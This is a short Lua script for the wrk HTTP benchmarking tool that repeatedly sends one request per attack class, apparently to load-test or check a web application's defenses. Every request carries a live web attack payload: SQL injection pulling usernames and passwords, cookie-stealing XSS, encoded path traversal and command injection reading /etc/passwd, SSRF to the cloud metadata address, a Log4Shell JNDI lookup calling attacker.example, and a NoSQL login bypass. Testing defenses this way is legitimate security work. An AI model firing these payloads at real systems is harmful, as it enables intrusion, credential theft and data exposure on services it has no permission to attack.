-- Attack traffic for wrk: one request per class, cycling.
local ua = { ["User-Agent"] = "Mozilla/5.0", ["Accept"] = "*/*" }
local json = { ["User-Agent"] = "Mozilla/5.0", ["Content-Type"] = "application/json" }
local reqs
-- Built in init(): wrk knows the target host only then, and every request needs its Host header.
function init(args)
reqs = {
  wrk.format("GET", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", ua),
  wrk.format("POST", "/comments", json, '{"text": "<img src=x onerror=alert(document.cookie)>"}'),
  wrk.format("GET", "/files?name=..%252f..%252f..%252fetc%252fpasswd", ua),
  wrk.format("GET", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", ua),
  wrk.format("GET", "/users/1", { ["User-Agent"] = "${jndi:ldap://attacker.example/a}" }),
  wrk.format("POST", "/login", json, '{"username": {"$ne": null}, "password": {"$ne": null}}'),
  wrk.format("GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", ua),
  wrk.format("GET", "/", { ["User-Agent"] = "sqlmap/1.7.2#stable (https://sqlmap.org)" }),
}
end
local i = 0
request = function()
  i = i % #reqs + 1
  return reqs[i]
end
